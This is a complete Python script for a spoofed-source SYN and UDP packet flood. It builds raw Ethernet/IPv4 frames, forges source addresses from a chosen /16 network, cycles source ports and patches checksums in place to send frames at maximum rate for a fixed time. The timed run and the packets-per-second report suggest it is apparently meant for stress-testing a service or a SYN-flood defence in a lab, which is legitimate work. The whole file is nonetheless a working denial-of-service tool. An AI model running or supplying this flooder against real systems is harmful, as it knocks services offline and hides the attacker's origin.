"""Spoofed-source SYN and UDP flood over AF_PACKET, as fast as one CPU
allows, for a fixed time. python3 only; frames are patched in place (source
address, source port, incremental checksums), so the loop costs a few
integer operations and one send() per frame.

    flood.py IFACE DST_MAC VIP TCP_PORT UDP_PORT SECONDS SRC_NET UDP_EVERY

Stops after SECONDS or at SIGTERM, then prints its line.

Sources are SRC_NET (a.b.0.0/16, e.g. 198.18.0.0) plus a counter, source
ports cycle, so every frame is a new flow. One frame in UDP_EVERY is a UDP
datagram (0: SYNs only). Prints one line: "frames N syn N udp N secs S pps P".
"""

import signal
import socket
import struct
import sys
import time

stop = False


def on_term(*_):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_term)

iface, dst_mac, vip = sys.argv[1:4]
tport, uport = int(sys.argv[4]), int(sys.argv[5])
secs = float(sys.argv[6])
net = socket.inet_aton(sys.argv[7])
udp_every = int(sys.argv[8])

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip().replace(":", ""))
eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00"
dst = socket.inet_aton(vip)


def fold(t):
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return t


def words(b):
    return sum(struct.unpack("!%dH" % (len(b) // 2), b))


def frame(proto, l4):
    """Ethernet + IPv4 (source 0.0.0.0, checksum 0) + L4 (checksum 0)."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, 64, proto, 0, b"\0" * 4, dst)
    return bytearray(eth + ip + l4)


# Checksum sums over everything but the source address and port.
syn = frame(6, struct.pack("!HHIIBBHHH", 0, tport, 0x12345678, 0, 5 << 4, 0x02, 64240, 0, 0))
syn_ip_sum = words(bytes(syn[14:34]))
syn_l4_sum = words(dst) + 6 + 20 + words(bytes(syn[34:54]))
udp = frame(17, struct.pack("!HHHH", 0, uport, 12, 0) + b"who\n")
udp_ip_sum = words(bytes(udp[14:34]))
udp_l4_sum = words(dst) + 17 + 12 + words(bytes(udp[34:46]))
net_hi = (net[0] << 8) | net[1]

send = s.send
pack_into = struct.pack_into
n = nsyn = nudp = 0
i = 0
start = time.monotonic()
deadline = start + secs
while True:
    for _ in range(16):
        i += 1
        lo = i & 0xFFFF
        port = 1024 + ((i >> 16) * 7 + (lo & 0x3FF)) % 64000
        srcsum = net_hi + lo
        if udp_every and i % udp_every == 0:
            f, ips, l4s = udp, udp_ip_sum, udp_l4_sum
            nudp += 1
            pack_into("!HH", f, 26, net_hi, lo)
            pack_into("!H", f, 24, ~fold(ips + srcsum) & 0xFFFF)
            pack_into("!H", f, 34, port)
            pack_into("!H", f, 40, (~fold(l4s + srcsum + port) & 0xFFFF) or 0xFFFF)
        else:
            f, ips, l4s = syn, syn_ip_sum, syn_l4_sum
            nsyn += 1
            pack_into("!HH", f, 26, net_hi, lo)
            pack_into("!H", f, 24, ~fold(ips + srcsum) & 0xFFFF)
            pack_into("!H", f, 34, port)
            pack_into("!H", f, 50, ~fold(l4s + srcsum + port) & 0xFFFF)
        try:
            send(f)
            n += 1
        except OSError:
            pass
    if stop or time.monotonic() >= deadline:
        break
el = time.monotonic() - start
print("frames %d syn %d udp %d secs %.1f pps %d" % (n, nsyn, nudp, el, n / el if el else 0))
